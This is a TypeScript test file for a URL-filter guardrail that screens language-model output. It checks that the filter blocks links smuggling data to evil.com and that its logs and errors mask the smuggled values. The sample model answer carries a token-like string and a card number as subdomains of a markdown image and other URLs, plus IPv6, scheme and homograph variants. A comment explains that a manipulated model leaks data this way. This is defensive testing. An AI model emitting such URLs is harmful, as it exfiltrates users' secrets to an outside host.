import { generateText, wrapLanguageModel } from 'ai';
import { describe, expect, it } from 'vitest';
import { guardContext, textModel } from '../../../test/helpers';
import { GuardrailTripwireError } from '../../core/errors';
import { getGuardrailOutcome } from '../../middleware/get-guardrail-outcome';
import { guardrails } from '../../middleware/guardrails-middleware';
import { urlFilter } from './url-filter';

/**
 * A model told to leak a value sends it as a subdomain (an image the
 * browser loads): the record, reason and error of the block named the host
 * whole, so the card number or token the block kept from the browser
 * reached it, logs and telemetry through the record (round 17).
 */
describe('urlFilter records: hosts carrying data', () => {
  const answer =
    'see ![x](https://ghp-R7pQ2mX9vL4kT8wZ3nB6cF1hJ5sD0aY2eU7i.evil.com/a.png), ' +
    'https://4111111111111111.evil.com:8443/x, https://xn--80ak6aa92e.com and https://docs.evil.com' +
    // Round 18: the value split over short labels, in an IPv6 literal, in a
    // scheme, in a look-alike subdomain.
    ' https://4111.1111.1111.1111.evil.com/p https://jane.doe.corp.io.evil.co.uk/p' +
    ' https://[4111:1111:1111:1111::]/p x4111111111111111://evil.com/p https://xn--80ak6aa92e.evil.com/p';

  it('generateText: the record shows the registrable domain alone, each label that may carry data as *', async () => {
    const result = await generateText({
      model: wrapLanguageModel({
        model: textModel(answer),
        middleware: guardrails({ output: [urlFilter({ allow: ['example.com'] })] }),
      }),
      prompt: 'hi',
    });
    expect(result.text).toBe('This content contains a link that is not allowed.');
    const [record] = (await getGuardrailOutcome(result))!.records;
    expect({ reason: record!.reason, info: record!.info }).toEqual({
      reason: 'https://*.evil.com: host "*.evil.com" is not on the allow list',
      info: {
        urls: [
          { url: 'https://*.evil.com', rule: 'host "*.evil.com" is not on the allow list' },
          { url: 'https://*.evil.com:8443', rule: 'host "*.evil.com" is not on the allow list' },
          {
            url: 'https://xn--80ak6aa92e.com',
            rule: 'host "xn--80ak6aa92e.com" ("аррӏе") looks like a homograph',
          },
          { url: 'https://*.evil.com', rule: 'host "*.evil.com" is not on the allow list' },
          { url: 'https://*.evil.com', rule: 'host "*.evil.com" is not on the allow list' },
          { url: 'https://*.evil.co.uk', rule: 'host "*.evil.co.uk" is not on the allow list' },
          { url: 'https://[*]', rule: 'host "[*]" is not on the allow list' },
          { url: '*://evil.com', rule: 'scheme "*" is not allowed' },
          { url: 'https://*.evil.com', rule: 'host "*.evil.com" looks like a homograph' },
        ],
        count: 9,
      },
    });
  });

  it('a host longer than a DNS name shows its registrable domain alone too (round 39)', async () => {
    // tldts found no domain in a host of more than 253 characters: it was shown whole.
    const host = `4111.1111.1111.1111.${'a.'.repeat(120)}evil.com`;
    const verdict = await urlFilter({ allow: ['example.com'] }).check(
      `https://${host}/x`,
      guardContext('output'),
    );
    expect(verdict).toEqual({
      action: 'block',
      message: 'This content contains a link that is not allowed.',
      reason: 'https://*.evil.com: host "*.evil.com" is not on the allow list',
      severity: 'warning',
      info: {
        urls: [{ url: 'https://*.evil.com', rule: 'host "*.evil.com" is not on the allow list' }],
        count: 1,
      },
    });
  });

  it('throw mode: the error carries no label that held the data', async () => {
    const error = await generateText({
      model: wrapLanguageModel({
        model: textModel(answer),
        middleware: guardrails({
          output: [urlFilter({ allow: ['example.com'] })],
          onTrip: 'throw',
        }),
      }),
      prompt: 'hi',
    }).catch(caught => caught);
    expect(error).toBeInstanceOf(GuardrailTripwireError);
    const serialised = JSON.stringify(error, Object.getOwnPropertyNames(error));
    expect(serialised).toContain('*.evil.com');
    expect(serialised).not.toMatch(/4111111111111111|r7pq2mx9|4111[.:]1111|jane|doe/i);
  });
});
